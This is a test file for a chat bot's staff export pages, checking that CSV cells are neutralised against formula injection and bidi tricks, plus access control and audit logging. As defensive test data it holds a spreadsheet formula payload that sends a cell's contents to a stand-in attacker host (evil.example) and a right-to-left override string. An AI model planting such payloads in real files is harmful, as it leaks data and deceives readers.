import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { exportPages } from '../../../bot/staff/export/export-pages.ts';
import { safeCell } from '../../../bot/staff/export/safe-cell.ts';
import { addTag } from '../../../bot/transcripts/review/tags.ts';
import { AT, sayer } from '../transcripts/say.ts';
import { openMemory, type RunningConsole, startConsole } from './staff-for-tests.ts';

const NASTY = '=HYPERLINK("http://evil.example?x="&A1,"click")';
const BIDI = 'pay \u202e123\u202c now';

describe('exports', () => {
  let staff: RunningConsole;
  beforeAll(async () => {
    const database = await openMemory();
    staff = await startConsole({ database, pages: [exportPages] });
    const { say } = sayer(database);
    await say({ talk: 'talk-1', text: NASTY, reply: 'line one\nline two, "quoted"' });
    await say({ talk: 'talk-2', text: BIDI, result: { language: 'ar' } });
    await say({ talk: 'talk-3', text: 'by text', channel: 'sms' });
    await addTag(database.db, 'talk-1', { tag: '@cmd', by: 'reviewer-1', at: AT });
  });
  afterAll(() => staff.stop());

  const get = async (path: string) => (await staff.signIn('editor')).get(path);

  test('a CSV file has a row a message, and no cell of it is a formula or turns the direction', async () => {
    const answer = await get('/staff/export?format=csv');
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="talks-[\d-]+\.csv"$/);
    const bytes = await answer.arrayBuffer();
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text.startsWith('\ufeff')).toBe(true);
    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[]; // as csv-parse gives them
    expect(rows).toHaveLength(3);
    const nasty = rows.find(({ reference }) => reference === 'TALK-1');
    expect(nasty).toMatchObject({
      message: `'${NASTY}`,
      reply: 'line one\nline two, "quoted"',
      tags: "'@cmd",
    });
    expect(rows.find(({ reference }) => reference === 'TALK-2')?.message).toBe('pay [U+202E]123[U+202C] now');
    for (const cell of rows.flatMap(row => Object.values(row))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u200b=1',
    '\u202e=1',
    '\uff1d1',
  ])('a cell that begins with %j is text to a spreadsheet', cell => {
    expect(safeCell(cell)).toMatch(/^'/);
  });

  test('a cell that is no formula stays as it is', () => {
    for (const cell of ['what is = ?', 'a-b', '2 + 2', 'привет', '']) expect(safeCell(cell)).toBe(cell);
  });

  test('JSONL has a line a talk', async () => {
    const text = await (await get('/staff/export?format=jsonl')).text();
    const talks = text
      .trim()
      .split('\n')
      .map(line => JSON.parse(line) as { readonly reference: string }); // the export's own form
    expect(talks.map(({ reference }) => reference).sort()).toEqual(['TALK-1', 'TALK-2', 'TALK-3']);
  });

  test('a transcript is a list of whole Bot Framework activities', async () => {
    const answer = await get('/staff/talks/talk-1/export?format=transcript');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="talk-TALK-1.transcript"');
    const activities = (await answer.json()) as Record<string, unknown>[]; // the export's own form
    expect(activities).toHaveLength(2);
    expect(activities[0]).toMatchObject({
      type: 'message',
      text: NASTY,
      channelId: 'directline',
      conversation: { id: 'talk-1' },
      from: { role: 'user' },
      timestamp: AT.toISOString(),
    });
    expect(activities[1]).toMatchObject({ from: { role: 'bot' }, recipient: { role: 'user' } });
    const all = (await (await get('/staff/export?format=transcript')).json()) as unknown[];
    expect(all).toHaveLength(6);
  });

  test('only what the filters let through is exported', async () => {
    const text = await (await get('/staff/export?format=jsonl&channel=sms')).text();
    expect(text.trim().split('\n')).toHaveLength(1);
    expect(text).toContain('TALK-3');
  });

  test('who may not edit may not export; an unknown form or talk is told', async () => {
    for (const role of ['reader', 'reviewer'] as const) {
      const low = await staff.signIn(role);
      expect((await low.get('/staff/export?format=csv')).status).toBe(403);
      expect((await low.get('/staff/talks/talk-1/export?format=csv')).status).toBe(403);
    }
    expect((await get('/staff/export?format=xls')).status).toBe(400);
    expect((await get('/staff/talks/talk-9/export?format=csv')).status).toBe(404);
  });

  test('every export is in the audit log, with how much went, without the words of a search', async () => {
    await (await get('/staff/export?format=csv&text=formula')).text();
    const entries = await staff.parts.database.db.selectFrom('audit').selectAll().orderBy('seq').execute();
    const last = entries.slice(-2).map(({ who, action, details }) => [who, action, JSON.parse(details)]);
    expect(last).toEqual([
      ['editor-1', 'talks.export', { format: 'csv', text: '(words)' }],
      ['editor-1', 'talks.exported', { format: 'csv', talks: 0 }],
    ]);
  });
});
